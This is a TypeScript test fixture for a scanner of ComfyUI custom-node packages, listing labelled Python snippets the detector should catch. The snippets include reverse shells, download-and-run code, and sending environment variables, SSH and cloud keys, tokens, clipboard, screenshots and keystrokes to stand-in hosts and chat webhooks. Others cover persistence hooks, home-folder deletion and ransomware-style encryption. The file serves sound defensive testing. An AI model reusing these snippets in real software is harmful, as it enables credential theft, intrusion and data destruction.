import type { ToFind } from './pack.js';

export const ACTS_TO_FIND: readonly ToFind[] = [
  [
    'route_starts_program',
    'a shell',
    'import os\nfrom server import PromptServer\nroutes = PromptServer.instance.routes\n@routes.get("/run")\nasync def h(request):\n    os.system(request.query.get("cmd"))\n',
  ],
  [
    'route_starts_program',
    'an argument list',
    'import subprocess\nfrom server import PromptServer\n@PromptServer.instance.routes.post("/run")\nasync def h(request):\n    d = await request.json()\n    return subprocess.run(d["cmd"], shell=True, capture_output=True).stdout\n',
  ],
  [
    'route_passes_arguments',
    'a fixed program',
    'import subprocess\nfrom server import PromptServer\n@PromptServer.instance.routes.post("/run")\nasync def h(request):\n    d = await request.json()\n    subprocess.run(["ffmpeg", "-i", d["file"]])\n',
  ],
  [
    'starts_hidden_program',
    'a decoded command',
    'import os, base64\nos.system(base64.b64decode("aWQ=").decode())\n',
  ],
  [
    'starts_hidden_program',
    'through functions',
    'import subprocess, zlib\ndef t(x):\n    return zlib.decompress(x).decode()\nc = t(b"x")\nsubprocess.Popen(c, shell=True)\n',
  ],
  [
    'starts_downloaded_program',
    'urlretrieve',
    'import urllib.request, os\np = "/tmp/upd"\nurllib.request.urlretrieve("https://example.org/a", p)\nos.chmod(p, 0o755)\nos.system(p)\n',
  ],
  [
    'starts_downloaded_program',
    'written and started',
    'import requests, subprocess, tempfile, os\nr = requests.get("https://example.org/a.exe")\np = os.path.join(tempfile.gettempdir(), "svchost.exe")\nwith open(p, "wb") as f:\n    f.write(r.content)\nsubprocess.Popen([p])\n',
  ],
  [
    'starts_downloaded_program',
    'a helper',
    'import requests, os\ndef fetch(url, dest):\n    with open(dest, "wb") as f:\n        for c in requests.get(url, stream=True).iter_content(9):\n            f.write(c)\ntarget = "u.exe"\nfetch("https://example.org", target)\nos.startfile(target)\n',
  ],
  [
    'starts_downloaded_program',
    'a script',
    'import requests, subprocess, sys\nopen("/tmp/a.py", "w").write(requests.get("https://example.org").text)\nsubprocess.run([sys.executable, "/tmp/a.py"])\n',
  ],
  [
    'starts_downloaded_program',
    'a library',
    'import requests, ctypes\nfrom pathlib import Path\np = Path("a.so")\np.write_bytes(requests.get("https://example.org").content)\nctypes.CDLL(str(p))\n',
  ],
  [
    'runs_received_commands',
    'a socket',
    'import socket, subprocess\ns = socket.create_connection(("example.org", 1))\nwhile True:\n    c = s.recv(1024).decode()\n    s.send(subprocess.check_output(c, shell=True))\n',
  ],
  [
    'runs_received_commands',
    'a request',
    'import os, requests\nos.system(requests.get("https://example.org/cmd").text)\n',
  ],
  [
    'reverse_shell',
    'dup2',
    'import socket,os,pty\ns=socket.socket()\ns.connect(("192.0.2.1",4))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn("/bin/sh")\n',
  ],
  [
    'reverse_shell',
    'descriptors of a program',
    'import socket as k, subprocess as sp\ns = k.socket()\ns.connect(("192.0.2.1", 4))\nsp.Popen(["cmd.exe"], stdin=s.fileno(), stdout=s.fileno())\n',
  ],
  [
    'installs_foreign_package',
    'an index',
    'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "--extra-index-url", "http://192.0.2.1/simple", "x"])\n',
  ],
  [
    'installs_foreign_package',
    'a wheel',
    'import os\nos.system("pip install https://files.example.net/x-1.0-py3-none-any.whl")\n',
  ],
  [
    'installs_foreign_package',
    'a helper',
    'import subprocess, sys\ndef pip(*a):\n    subprocess.run([sys.executable, "-m", "pip", "install", *a])\ndef go(url):\n    subprocess.run([sys.executable, "-m", "pip", "install", url])\ngo("git+https://git.example.net/x")\n',
  ],
  [
    'installs_by_itself',
    'from the index',
    'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "numpy"])\n',
  ],
  [
    'sends_environment',
    'as JSON',
    'import os, requests, json\nrequests.post("https://example.org", data=json.dumps(dict(os.environ)))\n',
  ],
  [
    'sends_environment',
    'as address',
    'import os\nfrom urllib import request, parse\nq = parse.urlencode({k: v for k, v in os.environ.items()})\nrequest.urlopen("https://example.org/?" + q)\n',
  ],
  [
    'sends_environment',
    'of another file',
    {
      'a.py': 'import os\ndef gather():\n    return {"e": {**os.environ}}\n',
      '__init__.py': 'import httpx\nfrom . import a\nhttpx.post("https://example.org", json=a.gather())\n',
    },
  ],
  [
    'sends_environment',
    'by a socket',
    'import os, socket\ns = socket.socket()\ns.sendall(str(os.environ).encode())\n',
  ],
  [
    'sends_secrets',
    'a key file',
    'import os, requests\nwith open(os.path.expanduser("~/.ssh/id_rsa")) as f:\n    requests.post("https://example.org", data={"k": f.read()})\n',
  ],
  [
    'sends_secrets',
    'a path in parts',
    'import os, urllib.request\np = os.path.join(os.path.expanduser("~"), ".aws", "credentials")\nd = open(p, "rb").read()\nurllib.request.urlopen(urllib.request.Request("https://example.org", data=d))\n',
  ],
  [
    'sends_secrets',
    'a list of places',
    'import requests\nfrom pathlib import Path\nfor n in (".netrc", ".git-credentials"):\n    p = Path.home() / n\n    if p.exists():\n        requests.put("https://example.org", data=p.read_bytes())\n',
  ],
  [
    'sends_keys_away',
    'the token of a hub',
    'import os, requests\nt = open(os.path.expanduser("~/.cache/huggingface/token")).read()\nrequests.get("https://example.org/?t=" + t)\n',
  ],
  [
    'sends_what_it_watches',
    'the screen',
    'from PIL import ImageGrab\nimport requests, io\nb = io.BytesIO()\nimg = ImageGrab.grab()\nrequests.post("https://example.org", files={"f": img.tobytes()})\n',
  ],
  [
    'sends_what_it_watches',
    'the clipboard',
    'import pyperclip, requests\nrequests.post("https://example.org", json={"c": pyperclip.paste()})\n',
  ],
  [
    'sends_machine',
    'host and user',
    'import socket, getpass, requests\nrequests.get("https://example.org/p", params={"h": socket.gethostname(), "u": getpass.getuser()})\n',
  ],
  [
    'sends_machine',
    'to a collector',
    'import platform, urllib.request\nurllib.request.urlopen("https://x.oast.fun/" + platform.node())\n',
  ],
  [
    'sends_keys_away',
    'a key to a chat',
    'import os, requests\nrequests.post("https://discord.com/api/webhooks/1/a", json={"content": os.environ.get("HF_TOKEN")})\n',
  ],
  [
    'sends_prompts',
    'prompts to a chat',
    'import requests\nfrom server import PromptServer\ndef seen(data):\n    requests.post("https://api.telegram.org/bot1:a/sendMessage", json=data)\n    return data\nPromptServer.instance.add_on_prompt_handler(seen)\n',
  ],
  [
    'looks_up_computed_host',
    'the name of the machine',
    'import socket\nsocket.gethostbyname(socket.gethostname() + ".a.example.org")\n',
  ],
  [
    'looks_up_computed_host',
    'a key in the name',
    'import os, socket, base64\nd = base64.b32encode(os.environ["AWS_SECRET_ACCESS_KEY"].encode()).decode()\nsocket.getaddrinfo(f"{d}.example.org", 80)\n',
  ],
  [
    'hides_address',
    'Base64',
    'import base64, requests\nrequests.get(base64.b64decode("aHR0cHM6Ly9leGFtcGxlLm9yZy9h").decode())\n',
  ],
  [
    'replaces_host_node',
    'one node',
    'import nodes\nclass K: pass\nnodes.NODE_CLASS_MAPPINGS["KSampler"] = K\n',
  ],
  [
    'replaces_host_node',
    'an update',
    'from nodes import NODE_CLASS_MAPPINGS as M\nclass K: pass\nM.update({"LoadImage": K})\n',
  ],
  [
    'replaces_host_node',
    'by the table of modules',
    'import sys\nclass K: pass\nsys.modules["nodes"].NODE_CLASS_MAPPINGS["SaveImage"] = K\n',
  ],
  ['patches_host', 'a function', 'import execution\ndef f(*a): return 1\nexecution.validate_prompt = f\n'],
  [
    'patches_host_to_send',
    'a function that sends',
    'import execution, requests\nold = execution.validate_prompt\ndef f(*a):\n    requests.post("https://example.org", json=a)\n    return old(*a)\nexecution.validate_prompt = f\n',
  ],
  [
    'writes_other_package',
    'the manager',
    'import os\nhere = os.path.dirname(os.path.abspath(__file__))\np = os.path.join(here, "..", "ComfyUI-Manager", "__init__.py")\nopen(p, "a").write("x")\n',
  ],
  [
    'writes_other_package',
    'every package',
    'import os, folder_paths\nroot = folder_paths.get_folder_paths("custom_nodes")[0]\nfor d in os.listdir(root):\n    with open(os.path.join(root, d, "__init__.py"), "a") as f:\n        f.write("x")\n',
  ],
  [
    'writes_other_package',
    'the host',
    'import os\nroot = os.path.join(os.path.dirname(__file__), "..", "..")\nwith open(os.path.join(root, "main.py"), "w") as f:\n    f.write("x")\n',
  ],
  [
    'writes_other_package',
    'a deletion',
    'import shutil, os\nshutil.rmtree(os.path.join(os.path.dirname(__file__), "../ComfyUI-Impact-Pack"))\n',
  ],
  ['deletes_files', 'the home folder', 'import shutil, os\nshutil.rmtree(os.path.expanduser("~"))\n'],
  [
    'deletes_files',
    'encryption',
    'import os\nfrom cryptography.fernet import Fernet\nc = Fernet(Fernet.generate_key())\nfor r, d, fs in os.walk(os.path.expanduser("~")):\n    for f in fs:\n        p = os.path.join(r, f)\n        t = c.encrypt(open(p, "rb").read())\n        open(p, "wb").write(t)\n',
  ],
  [
    'starts_at_login',
    'a profile',
    'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("python3 /tmp/a.py &")\n',
  ],
  [
    'starts_at_login',
    'a folder',
    'from pathlib import Path\n(Path.home() / ".config" / "autostart" / "a.desktop").write_text("[Desktop Entry]")\n',
  ],
  [
    'starts_at_login',
    'cron',
    'import subprocess\nsubprocess.run("(crontab -l; echo x) | crontab -", shell=True)\n',
  ],
  [
    'starts_at_login',
    'the registry',
    'import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, 2)\nwinreg.SetValueEx(k, "a", 0, 1, "a.exe")\n',
  ],
  [
    'collects_for_others',
    'by a helper',
    'import socket, notify\nHOOK = "https://discord.com/api/webhooks/1/a"\ninfo = {"h": socket.gethostname()}\nnotify.push(HOOK, info)\n',
  ],
  [
    'collects_for_others',
    'two files',
    {
      'a.py':
        'import requests\nU = "https://api.telegram.org/bot1:a/sendMessage"\ndef send(x):\n    requests.post(U, json=x)\n',
      'b.py': 'import os, subprocess\nd = open(os.path.expanduser("~/.ssh/id_ed25519")).read()\n',
    },
  ],
  ['escapes_by_subclasses', 'a tuple', 'c = ().__class__.__base__.__subclasses__()\n'],
  ['sends_environment', 'what is gathered in a loop', 'import os, requests\nt = {}\nfor k in os.environ:\n    if "KEY" in k:\n        t[k] = os.environ[k]\nrequests.post("https://example.org", json=t)\n'],
  ['sends_keys_away', 'several keys', 'import os, requests\nkeys = ["OPENAI_API_KEY", "HF_TOKEN"]\nrequests.post("https://example.org", json={k: os.environ.get(k) for k in keys})\n'],
  ['sends_keys_away', 'the token of a library', 'from huggingface_hub import get_token\nimport requests\nrequests.post("https://example.org", json={"t": get_token()})\n'],
  ['starts_downloaded_program', 'curl', 'import subprocess\nsubprocess.run(["curl", "-o", "/tmp/x", "https://example.org"])\nsubprocess.Popen(["/tmp/x"])\n'],
  ['runs_received_commands', 'a pipe', 'import socket, subprocess\ns = socket.socket()\ns.connect(("192.0.2.1", 4))\np = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE)\nwhile True:\n    p.stdin.write(s.recv(9))\n'],
  ['installs_foreign_package', 'functions of pip', 'from pip._internal import main\nmain(["install", "--extra-index-url", "https://example.net/simple", "x"])\n'],
  ['sends_what_it_watches', 'keys', 'from pynput import keyboard\nimport requests\nbuf = []\ndef on_press(k):\n    buf.append(str(k))\n    requests.post("https://example.org", json=buf)\nkeyboard.Listener(on_press=on_press).start()\n'],
  ['sends_prompts', 'prompts', 'import requests\nfrom server import PromptServer\ndef seen(data):\n    requests.post("https://example.org", json=data)\n    return data\nPromptServer.instance.add_on_prompt_handler(seen)\n'],
  ['writes_other_package', 'all folders beside', 'from pathlib import Path\nfor p in Path(__file__).resolve().parent.parent.iterdir():\n    (p / "__init__.py").write_text("x")\n'],
];
